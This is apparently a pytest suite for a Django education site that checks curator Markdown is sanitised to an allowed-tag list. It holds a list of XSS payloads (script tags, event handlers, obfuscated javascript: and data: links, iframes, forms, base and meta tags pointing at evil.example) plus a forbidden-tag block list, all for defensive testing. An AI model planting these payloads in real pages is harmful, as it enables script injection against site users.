"""Curator Markdown is cleaned to the SECURITY.md allow-list before anyone sees it."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from education.rendering import ALLOWED_TAGS, render_markdown

HOSTILE = [
    "<script>alert('s1')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('s2')</scr</script>ipt>",
    "<img src=x onerror=\"alert('s3')\">",
    "<IMG SRC=x OnErRoR=alert('s4')>",
    "<a href=\"javascript:alert('s5')\">click</a>",
    "[click](javascript:alert('s6'))",
    "[click](JAVASCRIPT:alert('s7'))",
    "[click](&#106;avascript:alert('s8'))",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert('s9')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('s10')\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"data:text/html,<script>alert('s11')</script>\">x</a>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert('s12'))\">styled</p>",
    '<iframe src="https://evil.example/"></iframe>',
    "<svg onload=alert('s13')><circle r=1 /></svg>",
    "<svg><script>alert('s14')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('s15')>",
    "<div onmouseover=\"alert('s16')\">hover</div>",
    "<p <img src=x onerror=alert('s17')>>malformed</p>",
    "<<script>script>alert('s18')<</script>/script>",
    "<!--<script>alert('s19')</script>-->",
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name=x><button>go</button></form>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    '<base href="https://evil.example/">',
    '<a href="http://plain.example/">insecure link</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    '<a href="/local/path" onclick="alert(\'s20\')">relative</a>',
    "![pic](https://evil.example/x.png)",
    "> <blockquote><b onclick=alert('s21')>nested</b></blockquote>",
]


class TagCollector(HTMLParser):
    """Every start tag in a document, with its attributes, as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.script_text.append(data)


def parse(html: str) -> TagCollector:
    collector = TagCollector()
    collector.feed(html)
    return collector


# Raw tags that must never reach the page (escaped text such as "&lt;img" is harmless).
FORBIDDEN_TAGS = [
    "<script",
    "<style",
    "<iframe",
    "<svg",
    "<math",
    "<img",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<meta",
    "<base",
    "<div",
]


def assert_clean(html: str) -> None:
    """Only allowed tags, only href/title/rel attributes, only https/mailto links."""
    lowered = html.lower()
    for marker in FORBIDDEN_TAGS:
        assert marker not in lowered, (marker, html)
    tags = parse(html).tags
    assert {tag for tag, _ in tags} <= ALLOWED_TAGS, html
    for tag, attributes in tags:
        assert set(attributes) <= {"href", "title", "rel"}, (tag, attributes)
        if "href" in attributes:
            assert attributes["href"].startswith(("https://", "mailto:")), attributes
            assert attributes["rel"] == "noopener noreferrer"


def body_section(html: str) -> str:
    match = re.search(r'<div class="learn-body">(.*?)<footer class="learn-meta', html, re.S)
    assert match, "the page body is missing"
    return match.group(1)


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives_rendering(payload):
    assert_clean(render_markdown(f"Before.\n\n{payload}\n\nAfter."))


def test_nothing_hostile_survives_into_the_published_page(client, make_page):
    body = "## Safe heading\n\nA [good link](https://example.org/).\n\n" + "\n\n".join(HOSTILE)
    page = make_page(body=body, slug="hostile")
    response = client.get(page.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()

    section = body_section(html)
    assert_clean(section)
    assert "<h2>Safe heading</h2>" in section
    assert '<a href="https://example.org/" rel="noopener noreferrer">good link</a>' in section

    # Across the whole document: only Overlap's own scripts, no handlers, no frames.
    document = parse(html)
    for tag, attributes in document.tags:
        assert not any(name.startswith("on") for name in attributes), (tag, attributes)
        assert tag not in {"iframe", "svg", "img", "object", "embed", "style", "math", "base"}
        if tag == "script":
            own = ("/static/", reverse("javascript-catalog", args=["en"]))
            assert attributes["src"].startswith(own), attributes
        for value in attributes.values():
            assert not value.strip().lower().startswith(("javascript:", "data:")), attributes
    assert document.script_text == []


def test_allowed_markdown_survives():
    html = render_markdown(
        "## Heading\n\nText with *emphasis* and **strong**.\n\n- one\n- two\n\n1. first\n\n"
        "> quoted\n\n[mail us](mailto:care@example.org)"
    )
    for fragment in [
        "<h2>Heading</h2>",
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        "<ul>",
        "<ol>",
        "<li>one</li>",
        "<blockquote>",
        '<a href="mailto:care@example.org" rel="noopener noreferrer">mail us</a>',
    ]:
        assert fragment in html


FRAGMENTS = st.sampled_from(
    [
        "<",
        ">",
        "/",
        "=",
        '"',
        "'",
        "script",
        "img",
        "a",
        "href",
        "on",
        "error",
        "javascript:",
        "data:",
        "&#",
        "x",
        " ",
        "\n",
        "[",
        "](",
        ")",
        "*",
        "#",
        "style",
        "svg",
        "iframe",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=40).map("".join))
def test_any_input_renders_only_allowed_tags_and_no_event_handlers(text):
    assert_clean(render_markdown(text))
